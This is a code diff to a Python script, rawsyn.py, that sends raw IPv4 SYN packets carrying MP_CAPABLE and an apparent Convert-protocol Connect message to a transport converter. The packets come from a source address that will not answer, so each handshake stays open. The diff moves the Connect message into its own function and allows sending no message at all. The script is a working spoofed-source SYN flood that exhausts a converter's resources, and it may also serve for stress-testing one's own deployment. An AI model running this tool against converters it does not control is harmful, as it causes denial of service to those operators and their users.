@@ -3,7 +3,8 @@
 """SYNs with MP_CAPABLE and a Connect message from an address that will not answer: handshakes that
 never end. Needs CAP_NET_RAW.
 
-usage: rawsyn.py SOURCE CONVERTER:PORT SERVER:PORT COUNT     IPv4 only; one source port each
+usage: rawsyn.py SOURCE CONVERTER:PORT SERVER:PORT COUNT     IPv4 only; one source port each;
+       no message with - for SERVER:PORT
 """
 import socket
 import struct
@@ -37,10 +38,14 @@ def syn(source, sport, converter, dport, data):
                        converter) + tcp
 
 
+def connect(server, port):
+    return struct.pack(">BBHBBH", 1, 6, 0x2263, 0x0A, 5, port) + b"\0" * 10 + b"\xff\xff" + server
+
+
 def main():
     source = socket.inet_aton(sys.argv[1])
-    (converter, dport), (server, port) = endpoint(sys.argv[2]), endpoint(sys.argv[3])
-    message = (struct.pack(">BBHBBH", 1, 6, 0x2263, 0x0A, 5, port) + b"\0" * 10 + b"\xff\xff" + server)
+    converter, dport = endpoint(sys.argv[2])
+    message = b"" if sys.argv[3] == "-" else connect(*endpoint(sys.argv[3]))
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     for i in range(int(sys.argv[4])):
         raw.sendto(syn(source, FIRST_PORT + i, converter, dport, message), (socket.inet_ntoa(converter), 0))
